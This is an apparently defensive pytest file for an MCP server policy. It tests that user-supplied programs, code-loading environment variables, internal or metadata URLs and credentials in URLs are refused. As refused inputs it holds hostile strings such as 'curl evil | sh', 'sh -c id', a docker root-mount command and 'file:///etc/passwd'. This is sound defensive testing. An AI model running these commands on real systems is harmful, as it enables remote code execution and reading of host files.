"""Programs and hosts that the installation does not allow are refused."""

from __future__ import annotations

from collections.abc import Generator
from typing import Any

import pytest
from pydantic import SecretStr

from dataagent_core.errors import BadInput, DataAgentError, Misconfigured, ServerNotAllowed
from dataagent_core.mcp.servers.policy import ServerPolicy, StdioRule
from dataagent_core.mcp.servers.registration import NewServer
from dataagent_core.network import HostPolicy

CANARY = "canary-7f1c-never-anywhere"


@pytest.fixture
def hosts() -> Generator[HostPolicy]:
    opened = HostPolicy(["intranet.example", "127.0.0.1:9000"])
    yield opened
    opened.close()


def program(*words: str, **values: Any) -> NewServer:
    command, *args = words
    return NewServer(
        name="p", scope="user", user_id="alice", command=command, args=tuple(args), **values
    )


def address(url: str = "https://mcp.example/x", **values: Any) -> NewServer:
    return NewServer(name="a", scope="user", user_id="alice", url=url, **values)


PROGRAMS = [
    ("npx", "-c", "curl evil | sh"),
    ("npx", "--call", "id"),
    ("npx", "-y", "@evil/package"),
    ("uvx", "anything"),
    ("python", "-c", "import os"),
    ("python3.11", "-m", "http.server"),
    ("env", "sh", "-c", "id"),
    ("sh", "-c", "id"),
    ("/bin/bash", "-lc", "id"),
    ("mcp-server-time\u00a0", "x"),
    ("docker", "run", "-v", "/:/host", "alpine"),
    ("mcp-server-time", "--local-timezone=UTC"),
]


@pytest.mark.parametrize("words", PROGRAMS, ids=" ".join)
@pytest.mark.parametrize("beside", ["alone", "with a url", "as sse", "as stdio"])
def test_users_start_no_program_of_their_own_however_it_is_dressed_up(
    words: tuple[str, ...], beside: str, hosts: HostPolicy
) -> None:
    dress: dict[str, dict[str, Any]] = {
        "alone": {},
        "with a url": {"url": "https://mcp.example/x"},
        "as sse": {"transport": "sse", "url": "https://mcp.example/x"},
        "as stdio": {"transport": "stdio"},
    }
    with pytest.raises(ServerNotAllowed):
        ServerPolicy(hosts).check(program(*words, **dress[beside]), is_admin=False)


def test_a_transport_or_arguments_alone_count_as_a_program(hosts: HostPolicy) -> None:
    policy = ServerPolicy(hosts)
    for new in (address(transport="stdio"), address(args=("-c", "id"))):
        with pytest.raises(ServerNotAllowed):
            policy.check(new, is_admin=False)


def test_administrators_and_templates_start_programs_unless_that_is_off(
    hosts: HostPolicy,
) -> None:
    own = program("mcp-server-time", env={"TZ": SecretStr("UTC")})
    ServerPolicy(hosts).check(own, is_admin=True)
    ServerPolicy(hosts).check(program("x", template_id="t-1"), is_admin=False)
    ServerPolicy(hosts, stdio="any").check(program("sh", "-c", "id"), is_admin=False)
    for is_admin in (True, False):
        with pytest.raises(ServerNotAllowed, match="off"):
            ServerPolicy(hosts, stdio="off").check(own, is_admin=is_admin)
        with pytest.raises(ServerNotAllowed):
            ServerPolicy(hosts, stdio="off").check(
                program("x", template_id="t-1"), is_admin=is_admin
            )


def test_listed_command_lines_may_be_begun_with_and_nothing_else(hosts: HostPolicy) -> None:
    """CVE-2026-40933: a list of programs is none, as `npx -c` runs anything."""
    listed = ["mcp-server-time", "npx -y @acme/files", "python -m acme.mcp"]
    policy = ServerPolicy(hosts, commands=listed)
    for words in (
        ("mcp-server-time", "--local-timezone=UTC"),
        ("npx", "-y", "@acme/files", "/data"),
        ("python", "-m", "acme.mcp"),
    ):
        policy.check(program(*words), is_admin=False)
    for words in (
        ("npx", "-c", "id"),
        ("npx", "-y", "@acme/files-evil"),
        ("npx", "-y", "-c", "id", "@acme/files"),
        ("npx", "@acme/files"),
        ("/tmp/mcp-server-time",),
        ("python", "-m", "acme.mcp.evil"),
        ("python", "-c", "import acme.mcp"),
        ("MCP-SERVER-TIME",),
    ):
        with pytest.raises(ServerNotAllowed):
            policy.check(program(*words), is_admin=False)


@pytest.mark.parametrize("line", ["npx", "npx -y", "python", "python3.12 -m", "/usr/bin/env", "'"])
def test_an_operators_list_that_lets_users_start_anything_is_refused(
    line: str, hosts: HostPolicy
) -> None:
    with pytest.raises(Misconfigured, match="DATAAGENT_MCP_STDIO_COMMANDS"):
        ServerPolicy(hosts, commands=[line])


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD", "ld_preload", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PATH", "HOME",
        "PYTHONPATH", "PYTHONSTARTUP", "NODE_OPTIONS", "BASH_ENV", "ENV", "npm_config_script_shell",
        "UV_INDEX_URL", "PIP_INDEX_URL", "GIT_SSH_COMMAND", "PERL5OPT", "RUBYOPT", "_JAVA_OPTIONS",
        "JAVA_TOOL_OPTIONS", "DATAAGENT_SECRET_KEY",
    ],
)  # fmt: skip
def test_environment_that_loads_code_is_refused_for_everyone(name: str, hosts: HostPolicy) -> None:
    policy = ServerPolicy(hosts, commands=["mcp-x"])
    for is_admin in (True, False):
        with pytest.raises(ServerNotAllowed):
            policy.check(program("mcp-x", env={name: SecretStr("x")}), is_admin=is_admin)
    for odd in ("A=B", "1A", "A B", ""):
        with pytest.raises(BadInput):
            policy.check(program("mcp-x", env={odd: SecretStr("x")}), is_admin=True)
    for fine in ("API_TOKEN", "NODE_ENV", "PYTHONUNBUFFERED", "TZ"):
        policy.check(program("mcp-x", env={fine: SecretStr("x")}), is_admin=False)


@pytest.mark.parametrize("rule", ["templates", "off"])
def test_our_own_environment_is_never_passed_on(rule: StdioRule, hosts: HostPolicy) -> None:
    """A user's `${DATAAGENT_…}` handed langchain-mcp-adapters' host secrets to the child."""
    policy = ServerPolicy(hosts, stdio=rule)
    variable = "${DATAAGENT_MYSQL_PASSWORD}"
    for new in (
        address(f"https://mcp.example/{variable}"),
        address(headers={"X-Leak": SecretStr(variable)}),
        address(headers={"X-Leak": SecretStr("$HOME")}),
    ):
        with pytest.raises(DataAgentError) as refused:
            policy.check(new, is_admin=True)
        assert isinstance(refused.value, BadInput | ServerNotAllowed)
    if rule == "templates":
        with pytest.raises(BadInput, match="not filled in"):
            policy.check(program("x", env={"LEAK": SecretStr(variable)}), is_admin=True)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/mcp", "http://[::1]/mcp", "http://169.254.169.254/latest",
        "http://[::ffff:a9fe:a9fe]/", "http://10.0.0.5/mcp", "http://0x7f000001/", "http://127.1/",
        "ftp://mcp.example/", "file:///etc/passwd", "https://user:pw@mcp.example/", "//mcp.example",
        "https://user@mcp.example/",
    ],
)  # fmt: skip
def test_addresses_behind_the_wall_are_refused_for_everyone(url: str, hosts: HostPolicy) -> None:
    for is_admin in (True, False):
        with pytest.raises(ServerNotAllowed):
            ServerPolicy(hosts).check(address(url), is_admin=is_admin)


def test_an_operator_opens_hosts_and_ports(hosts: HostPolicy) -> None:
    policy = ServerPolicy(hosts)
    policy.check(address("http://127.0.0.1:9000/mcp"), is_admin=False)
    policy.check(address("http://intranet.example/mcp"), is_admin=False)
    with pytest.raises(ServerNotAllowed, match="DATAAGENT_ALLOW_PRIVATE_HOSTS"):
        policy.check(address("http://127.0.0.1:9001/mcp"), is_admin=False)


@pytest.mark.parametrize(
    "query", ["api_key=", "token=", "access_token=", "key=", "sig=", "Authorization=", "x-jwt=",
              "password=", "client_secret=", "a=1&session="]
)  # fmt: skip
def test_f13_credentials_in_a_url_are_refused_and_not_repeated(
    query: str, hosts: HostPolicy
) -> None:
    with pytest.raises(BadInput, match="headers") as refused:
        ServerPolicy(hosts).check(address(f"https://mcp.example/x?{query}{CANARY}"), is_admin=True)
    assert CANARY not in f"{refused.value!r} {refused.value.__context__!r}"
    ServerPolicy(hosts).check(
        address("https://mcp.example/x?keyword=a&workspace=b"), is_admin=False
    )


def test_headers_are_plain_and_not_the_transports(hosts: HostPolicy) -> None:
    policy = ServerPolicy(hosts)
    policy.check(address(headers={"Authorization": SecretStr("Bearer x")}), is_admin=False)
    for headers in (
        {"X-A": f"{CANARY}\r\nX-B: 1"},
        {"X-A": f"{CANARY}\n"},
        {"X A": CANARY},
        {"X-A:": CANARY},
        {"Host": CANARY},
        {"content-length": CANARY},
        {"Mcp-Session-Id": CANARY},
        {"X-A": CANARY, "x-a": CANARY},
    ):
        sealed = {name: SecretStr(value) for name, value in headers.items()}
        with pytest.raises(BadInput) as refused:
            policy.check(address(headers=sealed), is_admin=True)
        assert CANARY not in f"{refused.value!r}"


def test_credentials_in_arguments_are_sent_to_env(hosts: HostPolicy) -> None:
    for arg in (f"--api-key={CANARY}", f"--TOKEN={CANARY}", f"postgresql://u:{CANARY}@db/x"):
        with pytest.raises(BadInput, match="env") as refused:
            ServerPolicy(hosts).check(program("mcp-x", arg), is_admin=True)
        assert CANARY not in f"{refused.value!r}"


def test_a_proxy_and_a_working_directory_are_administrators_to_set(hosts: HostPolicy) -> None:
    policy = ServerPolicy(hosts, commands=["mcp-x"])
    proxied = address(proxy_url="http://proxy.internal:3128")
    policy.check(proxied, is_admin=True)
    placed = program("mcp-x", cwd="/srv")
    policy.check(placed, is_admin=True)
    for new in (proxied, placed):
        with pytest.raises(ServerNotAllowed):
            policy.check(new, is_admin=False)
    with pytest.raises(BadInput):
        policy.check(address(proxy_url=f"http://u:{CANARY}@proxy:3128"), is_admin=True)
